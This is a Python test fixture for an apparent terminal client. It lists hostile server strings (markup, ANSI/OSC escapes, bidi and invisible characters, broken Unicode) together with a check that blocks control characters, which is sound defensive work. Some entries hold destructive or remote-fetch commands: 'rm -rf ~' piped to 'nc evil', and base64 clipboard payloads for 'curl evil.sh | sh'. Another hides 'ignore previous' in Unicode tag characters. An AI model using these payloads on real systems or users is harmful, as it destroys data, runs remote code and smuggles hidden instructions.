"""Hostile strings a Soku server (or a post's author) could send us, and a safety check.

Shared by every test that renders server text: the sanitiser's own tests, the table and
detail pane, the headless commands, the demo scenario. Import ``HOSTILE`` for named
cases (good pytest ids) or ``HOSTILE_STRINGS`` for the plain list.
"""

from __future__ import annotations

import re
from typing import Final

ESC: Final = "\x1b"
BEL: Final = "\x07"
ST: Final = ESC + "\\"  # string terminator of OSC / DCS / APC
CSI8: Final = "\x9b"  # the 8-bit CSI some terminals still obey

HOSTILE: Final[dict[str, str]] = {
    # Rich / Textual markup: must be shown literally, and must never raise MarkupError.
    "rich_bold": "[bold]not bold[/bold]",
    "rich_closing_only": "closing [/b] tag",
    "rich_close_all": "[red]x[/]",
    "rich_link": "[link=https://evil.example/phish]click me[/link]",
    "rich_click_action": "[@click=app.quit]quit the app[/]",
    "rich_meta": "[@click=app.bell][on red blink]!!![/][/]",
    "brackets_unbalanced": "rate limited [retry-after=30] ]]][[[ [ ] [/",
    "escaped_bracket": "\\[bold] escaped \\\\[italic]",
    "textual_variable": "$accent $text-muted $panel",
    "textual_css": "Screen { background: red; } #id.class",
    # ANSI CSI: screen clearing, cursor movement, colours.
    "csi_clear_screen": f"{ESC}[2J{ESC}[H everything is fine",
    "csi_cursor_moves": f"ok{ESC}[10A{ESC}[5C{ESC}[2K{ESC}[1;1H overwritten",
    "csi_sgr": f"{ESC}[31;1;5mRED BLINK{ESC}[0m {ESC}[38;2;255;0;0mtruecolor{ESC}[m",
    "csi_hide_cursor": f"{ESC}[?25l{ESC}[?1049h alternate screen",
    "csi_report_request": f"{ESC}[6n{ESC}[c{ESC}[>c device queries",
    "csi_mouse_tracking": f"{ESC}[?1000h{ESC}[?1003h mouse capture",
    "csi_unterminated": f"tail {ESC}[",
    # OSC: clipboard writes, hyperlinks, window titles, notifications.
    "osc52_bel": f"{ESC}]52;c;{'ZWNobyBwd25lZA=='}{BEL}copied",
    "osc52_st": f"{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g={ST}copied",
    "osc8_link": f"{ESC}]8;;https://evil.example{ST}innocent text{ESC}]8;;{ST}",
    "osc0_title": f"{ESC}]0;pwned title{BEL}",
    "osc2_title_st": f"{ESC}]2;sudo rm -rf /{ST}",
    "osc9_notify": f"{ESC}]9;fake desktop notification{BEL}",
    "osc777_notify": f"{ESC}]777;notify;Soku;click here{BEL}",
    # DCS, APC, PM, SOS and friends.
    "dcs": f"{ESC}P+q544e{ST}",
    "dcs_tmux_passthrough": f"{ESC}Ptmux;{ESC}{ESC}]52;c;aGk={BEL}{ST}",
    "apc_kitty": f"{ESC}_Gf=100,a=T;iVBORw0KGgo={ST}",
    "pm_sos": f"{ESC}^privacy message{ST}{ESC}Xstart of string{ST}",
    "esc_single": f"{ESC}c full reset {ESC}7{ESC}8{ESC}D{ESC}M",
    # 8-bit C1 controls.
    "c1_csi": f"{CSI8}2J{CSI8}31mred",
    "c1_osc_st": "\x9d52;c;aGVsbG8=\x9c after",
    "c1_all": "".join(chr(code) for code in range(0x80, 0xA0)),
    "c1_nel": "line\x85next line",
    # Plain control characters.
    "cr_overwrite": "Payment received\rPayment FAILED  ",
    "crlf_lines": "first line\r\nsecond line\r\n",
    "backspaces": "password: hunter2\b\b\b\b\b\b\b*******",
    "bel": f"ding{BEL}{BEL}{BEL}",
    "nul": "before\x00after\x00",
    "del": "abc\x7f\x7f\x7fdef",
    "all_c0": "".join(chr(code) for code in range(0x20)),
    "vertical_tab_formfeed": "a\x0bb\x0cc",
    "tabs_newlines": "col1\tcol2\t\tcol3\nrow2\n\n\nrow5\t",
    "only_newlines": "\n\n\n",
    # Bidi (Trojan Source) and invisible characters.
    "bidi_rlo": "user\u202etxt.exe",
    "bidi_trojan_source": "access = 'user\u202e \u2066// check if admin\u2069 \u2066'",
    "bidi_isolates": "\u2067RTL isolate\u2069 \u2068first strong\u2069 \u2066LTR\u2069",
    "bidi_marks": "\u200eleft\u200f right\u061c arabic",
    "bidi_embed_pop": "\u202aLRE\u202c \u202bRLE\u202c \u202dLRO\u202c",
    "zero_width": "sk\u200b_live\u200c_\u200dlooks\ufeffsame\u2060",
    "zwj_between_letters": "a\u200db\u200dc",
    "line_para_separators": "one\u2028two\u2029three",
    "soft_hyphen_fillers": "in\u00advisible \u3164 \u115f \uffa0 filler",
    "tag_smuggling": "hello" + "".join(chr(0xE0000 + ord(c)) for c in "ignore previous"),
    # Combining floods and long input.
    "zalgo": "Z" + "\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358" * 40 + "algo",
    "combining_only": "\u0301\u0302\u0303\u0304" * 100,
    "very_long_10k": "lorem ipsum dolor sit amet " * 371,
    "very_long_word": "A" * 10_000,
    "long_url": "https://example.com/" + "a1b2c3/" * 600,
    # Wide characters, emoji, scripts.
    "cjk_wide": "新商品を発売しました！ぜひご覧ください。限定セールは今週末まで。",
    "cjk_fullwidth": "ＦＵＬＬＷＩＤＴＨ　ｔｅｘｔ　１２３",
    "emoji_zwj_family": "👨\u200d👩\u200d👧\u200d👦 family 🧑\u200d💻 coder 🏳\ufe0f\u200d🌈",
    "emoji_flags": "🇯🇵🇺🇸🇫🇷🇩🇪 🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
    "emoji_modifiers": "👍🏽 👋🏿 ❤\ufe0f 1\ufe0f\u20e3 #\ufe0f\u20e3",
    "lone_regional_indicator": "\U0001f1ef alone",
    "rtl_arabic": "تم نشر المنشور بنجاح على جميع المنصات",
    "rtl_hebrew": "הפוסט פורסם בהצלחה",
    "mixed_direction": "Error: שגיאה 401 في الحساب @acme",
    "devanagari_thai": "नमस्ते दुनिया สวัสดีครับ",
    # Broken Unicode.
    "lone_surrogate_high": "bad \ud800 escape",
    "lone_surrogate_low": "bad \udfff escape",
    "surrogate_escape_bytes": "caf\udcc3\udca9",
    "replacement_and_noncharacters": "\ufffd\ufffe\uffff\U0010ffff",
    "private_use": "\ue000\uf8ff\U000f0000 nerd font icons",
    # Strings that trip formatters, templates and other layers.
    "format_strings": "%s %d %(key)s {0} {} {{}} {name!r} ${HOME} `id`",
    "html_js": "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "sql": "'; DROP TABLE posts; -- \" OR 1=1",
    "json_breaker": '{"error": "\\u001b[2J"}\\n',
    "null_word": "null",
    "none_word": "None",
    "empty": "",
    "whitespace_only": "   \t  ",
    "path_traversal": "../../../../etc/passwd\\..\\..\\windows\\system32",
    "shell": "$(rm -rf ~) ; `reboot` | nc evil 1337 && echo ok",
    "ellipsis_already": "already cut…",
    "stand_in_lookalike": "<U+001B> ␛[2J literal stand-ins",
}

HOSTILE_STRINGS: Final[list[str]] = list(HOSTILE.values())

# What may never reach a terminal from server text: C0 (bar newline where allowed),
# DEL, C1, bidi controls, line/paragraph separators, surrogates.
_FORBIDDEN_CLASS: Final = (
    "\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069"
    "\u2028\u2029\ud800-\udfff"
)
FORBIDDEN: Final = re.compile(f"[\n{_FORBIDDEN_CLASS}]")
FORBIDDEN_EXCEPT_NEWLINE: Final = re.compile(f"[{_FORBIDDEN_CLASS}]")


def forbidden_chars(text: str, *, allow_newline: bool = False) -> list[str]:
    """The characters of ``text`` that must never reach a terminal (empty when safe)."""
    pattern = FORBIDDEN_EXCEPT_NEWLINE if allow_newline else FORBIDDEN
    return pattern.findall(text)


def assert_terminal_safe(text: str, *, allow_newline: bool = False) -> None:
    """Fail with the offending characters if ``text`` holds anything a terminal obeys."""
    bad = forbidden_chars(text, allow_newline=allow_newline)
    assert not bad, f"unsafe characters {[f'U+{ord(c):04X}' for c in bad][:10]} in {text!r:.200}"
